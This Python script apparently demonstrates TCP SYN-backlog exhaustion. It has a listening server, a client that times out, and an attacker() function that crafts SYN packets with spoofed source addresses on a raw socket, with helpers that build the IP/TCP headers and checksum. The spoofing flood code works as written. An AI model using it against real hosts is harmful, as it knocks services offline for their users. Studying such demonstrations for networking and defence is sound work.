import socket
import struct


def server(host, port, backlog):
    listener = socket.socket()                             # [1]
    listener.settimeout(2.1)                               # [2]
    listener.bind((host, port))                            # [3]
    listener.listen(backlog)                               # [4]
    try:
        while True:
            connection, peer = listener.accept()           # [5]
            connection.sendall(b"welcome")                 # [6]
            connection.close()                             # [7]
    except TimeoutError:
        pass
    listener.close()                                       # [8]


def attacker(host, port, ghosts):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # [9]
    for index, ghost in enumerate(ghosts):
        syn = syn_packet(ghost, 20001 + index, host, port, 1000 * index)
        raw.sendto(syn, (host, 0))                         # [10]
    raw.close()                                            # [11]


def client(host, port):
    s = socket.socket()                                    # [12]
    s.settimeout(1.3)                                      # [13]
    try:
        s.connect((host, port))                            # [14]
        s.recv(1024)                                       # [15]
    except TimeoutError:
        print("no answer: I give up")                      # [16]
    s.close()                                              # [17]


def syn_packet(source, source_port, destination, destination_port, sequence):
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)

    def tcp(checksum):
        return struct.pack("!HHIIBBHHHBBH", source_port, destination_port, sequence, 0,
                           6 << 4, 0x02, 64240, checksum, 0, 2, 4, 1460)

    segment = tcp(internet_checksum(addresses + struct.pack("!BBH", 0, 6, 24) + tcp(0)))
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0)
    return header + addresses + segment  # the kernel fills in the header's checksum


def internet_checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
